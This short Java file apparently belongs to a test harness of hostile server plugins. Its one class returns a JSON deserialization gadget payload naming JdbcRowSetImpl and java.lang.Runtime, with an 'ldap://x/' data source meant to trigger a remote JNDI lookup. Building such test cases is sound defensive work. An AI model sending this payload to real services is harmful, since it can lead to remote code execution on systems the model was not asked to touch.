package plugins.hostile;

import java.util.*;

/** Answers with JSON that names a class to be made by whoever reads types out of it. */
public class NamesAGadget extends Attack {

    @Override
    Object attack(Target target) throws Throwable {
        return Map.of(
                "@class",
                "com.sun.rowset.JdbcRowSetImpl",
                "@type",
                "java.lang.Runtime",
                "dataSourceName",
                "ldap://x/",
                "autoCommit",
                true);
    }
}
